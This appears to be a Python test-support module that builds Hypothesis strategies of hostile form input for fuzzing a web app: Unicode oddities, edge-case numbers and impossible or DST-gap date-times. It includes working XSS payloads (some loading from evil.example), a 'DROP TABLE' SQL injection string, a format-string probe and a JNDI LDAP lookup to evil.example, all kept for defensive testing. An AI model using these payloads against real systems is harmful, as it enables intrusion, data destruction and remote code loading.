"""Hostile form input for hypothesis: text, numbers and local times people (or attackers) type."""

from hypothesis import strategies as st

# Each payload carries the marker "XSS", so a test can tell the payload from the page's own markup.
XSS_CORPUS = [
    "<script>alert('XSS')</script>",
    '"><img src=x onerror=alert("XSS")>',
    "'><svg/onload=alert('XSS')>",
    "</textarea><script>alert('XSS')</script>",
    "</title><script>alert('XSS')</script>",
    "<a href=\"javascript:alert('XSS')\">XSS</a>",
    '" onfocus="alert(\'XSS\')" autofocus x="',
    "<iframe src=//evil.example/XSS></iframe>",
    "<style>@import '//evil.example/XSS.css';</style>",
    "{{ XSS }}{% debug %}{# XSS #}",
    "&lt;script&gt;XSS&lt;/script&gt;",
    "<!--XSS--><![CDATA[XSS]]>",
    "javascript:alert('XSS')",
]

SPECIAL_CHARACTERS = [
    "\u202e",  # right-to-left override
    "\u202d",  # left-to-right override
    "\u2066\u2069",  # isolates
    "\u200f\u200e",  # right-to-left and left-to-right marks
    "\u200b",  # zero-width space
    "\u200c\u200d",  # zero-width (non-)joiners
    "\ufeff",  # byte order mark
    "\u00ad",  # soft hyphen
    "\u2028\u2029",  # line and paragraph separators
    "مرحبا بالعالم",
    "שלום עולם",
    "👩\u200d💻",
    "🇩🇪",
    "🔥💸",
    "e\u0301",  # a combining accent
    "Z̸͠a̵l̷g̶o̴",
    "\ufffd",
    "\U0010ffff",
    "\x00",
    "\r\n",
    "\r",
    "\t",
    "\x0b\x0c",
    "\x1b[31m",
    "\x7f\x85",
    "'; DROP TABLE briefs_incident; --",
    "%s%n%x",
    "${jndi:ldap://evil.example/a}",
]

# Whole-field numbers that parsers disagree about.
NUMBER_WORDS = [
    "-1",
    "-0",
    "-0.01",
    "0",
    "NaN",
    "nan",
    "-NaN",
    "sNaN",
    "Infinity",
    "-Infinity",
    "inf",
    "1e400",
    "-1e400",
    "1e-400",
    "1E+2",
    "0.001",
    "999999999999.99",
    "1000000000000",
    "9" * 30,
    "9" * 5000,
    "2147483648",
    "9223372036854775808",
    "-9223372036854775809",
    "0x1F",
    "1_000",
    "1,000",
    "١٢٣",
    "１２３",
    "²",
    "½",
    "Ⅻ",
    " 48000 ",
    "48000\x00",
    "+5",
    "--5",
    ".5",
    "5.",
    "",
]

# Local date-times: impossible dates, DST gaps and overlaps (Europe/Berlin), the ends of the
# calendar and things that are not date-times at all.
MOMENT_WORDS = [
    "2026-02-30T08:00",
    "2026-02-29T08:00",
    "2026-03-29T02:30",
    "2026-10-25T02:30",
    "2026-13-01T08:00",
    "2026-11-26T24:00",
    "2026-11-26T23:60",
    "2026-11-26T08:00:60",
    "0001-01-01T00:00",
    "0000-01-01T00:00",
    "9999-12-31T23:59",
    "10000-01-01T00:00",
    "1970-01-01T00:00",
    "1969-12-31T23:59",
    "2026-11-26",
    "08:00",
    "2026-11-26T08:00:00.123456",
    "2026-11-26T08:00Z",
    "2026-11-26T08:00+14:00",
    "2026-11-26T08:00-23:59",
    "2026-11-26 08:00",
    "11/26/2026 08:00",
    "２０２６-11-26T08:00",
    "2026-11-26T08:00\x00",
    "now",
    "",
]

# Characters a form field can carry in a UTF-8 body: everything but surrogates.
any_character = st.characters(codec="utf-8")

hostile_text = st.one_of(
    st.sampled_from(XSS_CORPUS + SPECIAL_CHARACTERS),
    st.text(any_character, max_size=40),
    st.lists(
        st.one_of(
            st.sampled_from(XSS_CORPUS + SPECIAL_CHARACTERS), st.text(any_character, max_size=6)
        ),
        min_size=1,
        max_size=8,
    ).map("".join),
    # Over-long: around every limit (100, 150, 200, 300, 1000, 2000 characters).
    st.builds(
        lambda piece, count: piece * count,
        st.sampled_from(["x", "é", "🔥", "\u200b", "<b>", "👩\u200d💻"]),
        st.integers(min_value=90, max_value=2100),
    ),
)

hostile_number = st.one_of(
    st.sampled_from(NUMBER_WORDS),
    st.integers().map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    st.floats().map(repr),
    hostile_text,
)

hostile_moment = st.one_of(
    st.sampled_from(MOMENT_WORDS),
    st.datetimes().map(lambda moment: moment.isoformat(timespec="minutes")),
    st.datetimes().map(lambda moment: moment.isoformat()),
    hostile_text,
)

# Bytes that are not UTF-8, for a field's value in a raw urlencoded body (without the bytes that
# separate or escape fields there).
invalid_utf8 = st.binary(min_size=1, max_size=24).filter(
    lambda raw: not _is_utf8(raw) and not set(raw) & set(b"&=+%")
)


def _is_utf8(raw: bytes) -> bool:
    try:
        raw.decode()
    except UnicodeDecodeError:
        return False
    return True
